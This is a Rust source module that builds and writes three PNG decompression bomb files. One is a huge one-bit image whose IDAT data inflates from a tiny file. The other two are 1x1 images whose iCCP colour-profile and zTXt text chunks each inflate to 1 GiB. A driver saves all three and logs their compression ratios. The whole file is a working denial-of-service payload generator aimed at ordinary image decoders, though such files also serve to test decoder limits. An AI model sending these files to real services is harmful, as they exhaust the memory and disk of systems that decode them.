//! The three bomb files and the driver that writes them.

use std::path::{Path, PathBuf};

use crate::{
    compress::{compress_repeated, BombPayload, CompressOptions},
    error::{Error, Result},
    structs::{Chunk, ChunkType, ColourType, Ihdr, ICCP, IDAT, PNG, ZTXT},
};

/// Deflate, the only compression method PNG defines.
pub const COMPRESSION_METHOD: u8 = 0;

/// One filtered row of a 1x1, 1-bit greyscale image: no filter, pixel set.
const TRIVIAL_SCANLINE: [u8; 2] = [0x00, 0x80];

/// Header for files whose real payload lives outside `IDAT`.
pub fn minimal_ihdr() -> Ihdr {
    Ihdr::new(1, 1, 1, ColourType::Grayscale)
}

/// A valid `IDAT` for [`minimal_ihdr`].
pub fn trivial_idat(options: CompressOptions) -> Result<Chunk> {
    let payload = compress_repeated(&TRIVIAL_SCANLINE, 1, options)?;
    Chunk::from_data(IDAT, payload.bytes)
}

/// A finished file waiting to be written.
#[derive(Debug)]
pub struct Bomb {
    pub file_name: &'static str,
    pub png: PNG,
    /// Bytes the bomb chunk inflates to.
    pub logical_len: u64,
}

impl Bomb {
    pub fn save(&self, out_dir: &Path) -> Result<BombReport> {
        let path = out_dir.join(self.file_name);
        let file_bytes = self.png.save(&path)? as u64;
        let report = BombReport {
            path,
            file_bytes,
            logical_bytes: self.logical_len,
        };
        tracing::info!(
            path = %report.path.display(),
            file_bytes = report.file_bytes,
            logical_bytes = report.logical_bytes,
            ratio = report.ratio(),
            "wrote bomb"
        );
        Ok(report)
    }
}

#[derive(Debug, Clone, PartialEq)]
pub struct BombReport {
    pub path: PathBuf,
    pub file_bytes: u64,
    pub logical_bytes: u64,
}

impl BombReport {
    pub fn ratio(&self) -> f64 {
        if self.file_bytes == 0 {
            return 0.0;
        }
        self.logical_bytes as f64 / self.file_bytes as f64
    }
}

/// An image whose `IDAT` inflates to `height` copies of one scanline.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PixelBomb {
    pub width: u32,
    pub height: u32,
    pub bit_depth: u8,
    pub colour_type: ColourType,
    /// Filter type byte at the start of every row.
    pub filter: u8,
    /// Value of every pixel byte in the row.
    pub fill: u8,
}

impl Default for PixelBomb {
    /// 2^15 x 2^13 one-bit greyscale, Paeth filtered, all white.
    fn default() -> Self {
        PixelBomb {
            width: 1 << 15,
            height: 1 << 13,
            bit_depth: 1,
            colour_type: ColourType::Grayscale,
            filter: 4,
            fill: 0xFF,
        }
    }
}

impl PixelBomb {
    pub const FILE_NAME: &'static str = "idat-bomb.png";

    pub fn ihdr(&self) -> Ihdr {
        Ihdr::new(self.width, self.height, self.bit_depth, self.colour_type)
    }

    pub fn scanline(&self) -> Result<Vec<u8>> {
        let row = usize::try_from(self.ihdr().bytes_per_row())
            .map_err(|_| Error::LogicalSizeOverflow)?;
        let mut scanline = Vec::with_capacity(row + 1);
        scanline.push(self.filter);
        scanline.resize(row + 1, self.fill);
        Ok(scanline)
    }

    /// Size of the decompressed image data, filter bytes included.
    pub fn logical_len(&self) -> Result<u64> {
        self.ihdr()
            .bytes_per_row()
            .checked_add(1)
            .and_then(|row| row.checked_mul(self.height as u64))
            .ok_or(Error::LogicalSizeOverflow)
    }

    pub fn build(&self, options: CompressOptions) -> Result<Bomb> {
        let scanline = self.scanline()?;
        let payload = compress_repeated(&scanline, self.height as u64, options)?;

        let mut png = PNG::new(self.ihdr());
        png.push(Chunk::from_data(IDAT, payload.bytes)?);
        Ok(Bomb {
            file_name: PixelBomb::FILE_NAME,
            png,
            logical_len: payload.logical_len,
        })
    }
}

/// Ancillary chunks that carry a zlib stream after a name prefix.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AncillaryKind {
    /// `iCCP`: profile name, NUL, method, compressed profile.
    ColourProfile,
    /// `zTXt`: keyword, NUL, method, compressed text. Decoders are assumed
    /// to treat `iTXt` the same way.
    CompressedText,
}

impl AncillaryKind {
    pub fn chunk_type(&self) -> ChunkType {
        match self {
            AncillaryKind::ColourProfile => ICCP,
            AncillaryKind::CompressedText => ZTXT,
        }
    }

    pub fn file_name(&self) -> &'static str {
        match self {
            AncillaryKind::ColourProfile => "iccp-bomb.png",
            AncillaryKind::CompressedText => "ztxt-bomb.png",
        }
    }

    pub fn default_name(&self) -> &'static [u8] {
        match self {
            AncillaryKind::ColourProfile => b"a",
            AncillaryKind::CompressedText => b"Comment",
        }
    }
}

/// A 1x1 image with an ancillary chunk that inflates to `block_len *
/// repeat_count` bytes of `fill`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AncillaryBomb {
    pub kind: AncillaryKind,
    /// Profile name or keyword, written before the NUL separator.
    pub name: Vec<u8>,
    pub block_len: usize,
    pub fill: u8,
    pub repeat_count: u64,
}

impl AncillaryBomb {
    /// 2^15 bytes of `a`, repeated 2^15 times: 1 GiB once inflated.
    pub fn new(kind: AncillaryKind) -> AncillaryBomb {
        AncillaryBomb {
            kind,
            name: kind.default_name().to_vec(),
            block_len: 1 << 15,
            fill: b'a',
            repeat_count: 1 << 15,
        }
    }

    pub fn colour_profile() -> AncillaryBomb {
        AncillaryBomb::new(AncillaryKind::ColourProfile)
    }

    pub fn compressed_text() -> AncillaryBomb {
        AncillaryBomb::new(AncillaryKind::CompressedText)
    }

    /// Whether `other` compresses to the same payload.
    pub fn same_payload(&self, other: &AncillaryBomb) -> bool {
        self.block_len == other.block_len
            && self.fill == other.fill
            && self.repeat_count == other.repeat_count
    }

    /// Bytes in front of the compressed data.
    pub fn prefix(&self) -> Vec<u8> {
        let mut prefix = Vec::with_capacity(self.name.len() + 2);
        prefix.extend_from_slice(&self.name);
        prefix.push(0);
        prefix.push(COMPRESSION_METHOD);
        prefix
    }

    pub fn payload(&self, options: CompressOptions) -> Result<BombPayload> {
        compress_repeated(&vec![self.fill; self.block_len], self.repeat_count, options)
    }

    /// Builds the file around an already compressed payload.
    pub fn build_with(&self, payload: &BombPayload, options: CompressOptions) -> Result<Bomb> {
        let mut data = self.prefix();
        data.extend_from_slice(&payload.bytes);

        let mut png = PNG::new(minimal_ihdr());
        png.push(Chunk::from_data(self.kind.chunk_type(), data)?)
            .push(trivial_idat(options)?);
        Ok(Bomb {
            file_name: self.kind.file_name(),
            png,
            logical_len: payload.logical_len,
        })
    }

    pub fn build(&self, options: CompressOptions) -> Result<Bomb> {
        self.build_with(&self.payload(options)?, options)
    }
}

/// Everything needed to produce the full set of files.
#[derive(Debug, Clone)]
pub struct GeneratorConfig {
    pub out_dir: PathBuf,
    pub options: CompressOptions,
    pub pixel: PixelBomb,
    pub profile: AncillaryBomb,
    pub text: AncillaryBomb,
}

impl GeneratorConfig {
    pub fn new(out_dir: impl Into<PathBuf>) -> GeneratorConfig {
        GeneratorConfig {
            out_dir: out_dir.into(),
            options: CompressOptions::default(),
            pixel: PixelBomb::default(),
            profile: AncillaryBomb::colour_profile(),
            text: AncillaryBomb::compressed_text(),
        }
    }
}

/// Builds and writes each bomb in turn. The ancillary payload is compressed
/// once when both ancillary bombs ask for the same one.
pub fn generate_all(config: &GeneratorConfig) -> Result<Vec<BombReport>> {
    let options = config.options;
    let mut reports = Vec::with_capacity(3);

    tracing::info!(logical_bytes = config.pixel.logical_len()?, "building pixel bomb");
    reports.push(config.pixel.build(options)?.save(&config.out_dir)?);

    tracing::info!("compressing ancillary payload");
    let shared = config.profile.payload(options)?;
    reports.push(
        config
            .profile
            .build_with(&shared, options)?
            .save(&config.out_dir)?,
    );

    let text = if config.text.same_payload(&config.profile) {
        config.text.build_with(&shared, options)?
    } else {
        config.text.build(options)?
    };
    reports.push(text.save(&config.out_dir)?);

    Ok(reports)
}
